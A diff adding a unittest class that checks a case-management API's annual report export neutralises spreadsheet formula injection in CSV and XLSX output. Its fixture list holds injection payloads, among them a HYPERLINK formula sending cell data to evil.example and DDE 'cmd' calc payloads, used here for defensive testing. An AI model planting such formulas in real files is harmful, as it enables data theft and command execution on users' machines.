@@ -159,6 +159,60 @@ class MeasuresApi(unittest.TestCase):
         self.assertIn(b"CH-", body)
 
 
+class SpreadsheetFormulasTest(unittest.TestCase):
+    """A service area or theme written as a spreadsheet formula reaches the annual report's
+    CSV as text (a leading apostrophe), and the XLSX holds no formulas at all. The built-in
+    policy has no list of service areas or themes, so any text is accepted."""
+    BACKEND = "sqlite"
+    FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = tempfile.TemporaryDirectory()
+        cls.db = harness.fresh_database(cls.BACKEND, cls.tmp.name, "formulas")
+        cls.server = harness.Server(cls.db).start()
+        for i, text in enumerate(cls.FORMULAS):
+            status, case = cls.server.request("POST", API + "/cases", {
+                "kind": "complaint", "received_at": f"2025-06-0{2 + i}T09:00:00Z",
+                "channel": "email", "summary": "Damp", "person": {"name": "A Resident"},
+                "service_area": text, "theme": text})
+            assert status == 201, case
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.server.stop()
+        harness.drop_database(cls.db)
+        cls.tmp.cleanup()
+
+    def test_csv_cells_are_never_formulas(self):
+        import csv
+        import io
+        status, body = self.server.request("GET", f"{API}/reports/annual?period=2025-26&format=csv")
+        self.assertEqual(status, 200, body)
+        rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
+        cells = [c for row in rows for c in row]
+        for text in self.FORMULAS:
+            self.assertIn("'" + text, cells, text)
+        for c in cells:
+            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                self.assertRegex(c, r"^[-+]?[0-9]+(\.[0-9]+)?$", f"a live formula: {c!r}")
+
+    def test_xlsx_holds_no_formulas(self):
+        import io
+        import zipfile
+        status, body = self.server.request("GET", f"{API}/reports/annual?period=2025-26&format=xlsx")
+        self.assertEqual(status, 200)
+        with zipfile.ZipFile(io.BytesIO(body)) as z:
+            for name in z.namelist():
+                if name.startswith("xl/worksheets/"):
+                    self.assertNotIn(b"<f>", z.read(name), name)
+                    self.assertNotIn(b"<f ", z.read(name), name)
+
+
+harness.on_both(SpreadsheetFormulasTest, globals())
+
+
 @unittest.skipUnless(harness.PG_DSN, "CHARTER_PG_DSN is not set")
 class MeasuresApiOnPostgres(MeasuresApi):
     """The same requests and figures with `charter serve --db postgresql://...`."""
